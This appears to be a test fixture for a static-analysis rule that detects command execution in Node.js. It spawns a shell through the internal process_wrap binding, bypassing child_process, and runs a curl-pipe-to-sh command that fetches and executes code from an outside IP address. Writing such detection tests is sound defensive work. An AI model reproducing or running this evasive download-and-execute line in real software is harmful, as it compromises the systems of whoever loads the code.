'use strict';
// Starts a shell through Node's internal process_wrap binding instead of child_process.
const { Process } = process.binding('process_wrap');
const proc = new Process();
// ruleid: code/command-execution
proc.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s http://45.61.137.24/x | sh'], envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });

module.exports = { ok: true };
